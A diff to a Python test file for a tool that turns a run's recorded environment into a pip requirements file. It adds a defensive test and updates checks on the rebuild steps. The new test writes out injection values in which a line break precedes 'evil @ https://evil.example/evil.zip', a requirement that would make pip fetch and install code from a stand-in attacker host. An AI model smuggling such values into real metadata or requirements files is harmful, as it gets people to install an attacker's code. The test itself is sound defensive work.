@@ -46,6 +46,16 @@ def change(run: Run, **facts: Any) -> None:
         row.environment = {**row.environment, **facts}
 
 
+def test_nothing_that_a_record_says_becomes_a_line_for_pip(run: Run) -> None:
+    n_lines = len(requirements_of(run.recorded_environment()).splitlines())
+    evil = [f"1{end}evil @ https://evil.example/evil.zip" for end in ("\n", "\r", "\x0b", "\u2028")]
+    change(run, variables={"OMP_NUM_THREADS": evil[0]}, name=evil[1], platform=evil[2], source=evil[3])
+    lines = requirements_of(run.recorded_environment()).splitlines()
+    assert sum("evil.zip" in line for line in lines) == 4
+    assert not any(line.startswith("evil") for line in lines)
+    assert len(lines) - n_lines in (0, 1)  # a variable where none was recorded
+
+
 def test_the_requirements_have_every_package_that_is_needed_with_its_exact_version(run: Run) -> None:
     text = requirements_of(run.recorded_environment())
     lines = [Requirement(line) for line in text.splitlines() if line and not line.startswith(("#", "--"))]
@@ -54,7 +64,14 @@ def test_the_requirements_have_every_package_that_is_needed_with_its_exact_versi
         assert found[name] == f"=={version(name)}"
     assert "alvin-studio" not in found or installed_packages()["origins"].get("alvin-studio") != "folder"
     assert "# Seed 0, data " + run._handle.row.dataset in text
-    assert f"alvin unpack run.zip --store rebuilt-store\n#   rebuilt/bin/alvin replay {run.name}" in text
+    steps = [line.removeprefix("#   ") for line in text.splitlines() if line.startswith("#   ")]
+    assert [one.split()[:3] for one in steps[-3:]] == [
+        ["rebuilt/bin/alvin", "unpack", "run.zip"],
+        ["rebuilt/bin/alvin", "environment", run.name],
+        ["rebuilt/bin/alvin", "replay", run.name],
+    ]
+    assert all("--store rebuilt-store" in one for one in steps[-3:])
+    assert "--store rebuilt-store --check " in steps[-2]
     assert str(Path.home()) not in text
 
 
@@ -85,6 +102,7 @@ def test_an_older_record_opens_and_says_what_it_does_not_know(run: Run) -> None:
     text = requirements_of(run_environment(run._handle))
     assert "numpy==2.0.1\ntorch==2.6.0\n" in text
     assert "An older record" in text
+    assert "# Code of alvin-studio: version 0.0.9\n" in text
     assert "faiss" not in text
     changed = {one.name: one.then for one in run.changed_here()}
     assert changed["numpy"] == "2.0.1"
